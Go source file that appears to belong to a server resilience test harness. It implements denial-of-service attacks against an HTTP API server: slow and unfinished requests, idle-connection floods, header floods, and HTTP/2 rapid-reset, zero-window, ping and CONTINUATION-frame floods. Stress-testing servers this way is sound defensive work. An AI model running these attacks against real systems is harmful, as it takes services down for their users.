package hostile

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// largeList is a path whose response has several megabytes.
const largeList = "/api/v1/namespaces/hostile/configmaps"

// connections returns the attacks on connections and streams.
func connections() []attack {
	return []attack{
		{"bodies that never arrive", 300, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "http/1.1"); err == nil {
				fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", largeList)
				holdOpen(ctx, conn)
			}
		}},
		{"responses never read", 100, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "http/1.1"); err == nil {
				fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: a\r\n\r\n", largeList)
				<-ctx.Done()
			}
		}},
		{"slow handshakes", 300, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dialTCP(ctx); err == nil {
				_, _ = conn.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}) // the beginning of a ClientHello
				holdOpen(ctx, conn)
			}
		}},
		{"endless handshakes", 8, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "h2"); err == nil {
				conn.Close()
			}
		}},
		{"idle connections", 2000, func(ctx context.Context, x *target, _ *rand.Rand) {
			x.dialing <- struct{}{} // these are idle connections; handshakes are another attack
			conn, err := x.dial(ctx, "http/1.1")
			<-x.dialing
			if err == nil {
				holdOpen(ctx, conn)
			}
		}},
		{"many headers", 8, func(ctx context.Context, x *target, _ *rand.Rand) {
			conn, err := x.dial(ctx, "http/1.1")
			if err != nil {
				return
			}
			fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: a\r\n")
			for i := range 200_000 {
				if _, err := fmt.Fprintf(conn, "X-%d: y\r\n", i); err != nil {
					break
				}
			}
			conn.Close()
		}},
		{"watches never read", 200, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "http/1.1"); err == nil {
				fmt.Fprintf(conn, "GET %s?watch=1 HTTP/1.1\r\nHost: a\r\n\r\n", largeList)
				<-ctx.Done()
			}
		}},
		{"zero windows", 8, zeroWindows},
		{"resets", 8, resets},
		{"pings and settings", 4, controlFrames},
		{"endless headers", 4, continuations},
	}
}

// rawHTTP2 is an HTTP/2 client that may violate the protocol.
type rawHTTP2 struct {
	*http2.Framer
	block bytes.Buffer
	enc   *hpack.Encoder
}

// http2 opens an HTTP/2 connection with an initial window for streams. It returns nil on failure.
func (x *target) http2(ctx context.Context, window uint32) *rawHTTP2 {
	conn, err := x.dial(ctx, "h2")
	if err != nil {
		return nil
	}
	c := &rawHTTP2{Framer: http2.NewFramer(conn, conn)}
	c.enc = hpack.NewEncoder(&c.block)
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	}
	if err != nil {
		conn.Close()
		return nil
	}
	// Frames from the server are read and discarded so that its writes do not block.
	go func() { _, _ = io.Copy(io.Discard, conn); conn.Close() }()
	return c
}

func (c *rawHTTP2) headers(path string) []byte {
	c.block.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "a"}, {":path", path}} {
		_ = c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return c.block.Bytes()
}

func (c *rawHTTP2) get(id uint32, path string) error {
	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(path), EndHeaders: true, EndStream: true})
}

// zeroWindows requests large lists with a window of zero, so that no response can be sent.
func zeroWindows(ctx context.Context, x *target, _ *rand.Rand) {
	c := x.http2(ctx, 0)
	if c == nil {
		return
	}
	for id := uint32(1); id < 2*200; id += 2 {
		if c.get(id, largeList) != nil {
			return
		}
	}
	<-ctx.Done()
}

// resets opens streams and resets them at once.
func resets(ctx context.Context, x *target, _ *rand.Rand) {
	c := x.http2(ctx, 1<<16)
	if c == nil {
		return
	}
	for id := uint32(1); id < 1<<30; id += 2 {
		if c.get(id, largeList) != nil || c.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

func controlFrames(ctx context.Context, x *target, _ *rand.Rand) {
	c := x.http2(ctx, 1<<16)
	if c == nil {
		return
	}
	for c.WritePing(false, [8]byte{}) == nil && c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}) == nil {
	}
}

// continuations sends a header section in CONTINUATION frames that never end.
func continuations(ctx context.Context, x *target, _ *rand.Rand) {
	c := x.http2(ctx, 1<<16)
	if c == nil {
		return
	}
	if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(largeList), EndStream: true}) != nil {
		return
	}
	for {
		c.block.Reset()
		_ = c.enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8000), Sensitive: true})
		if c.WriteContinuation(1, false, c.block.Bytes()) != nil {
			return
		}
	}
}

// client returns a client with the attacker's certificate and its own connections.
func (x *target) client() *http.Client { return client(x.mallory) }
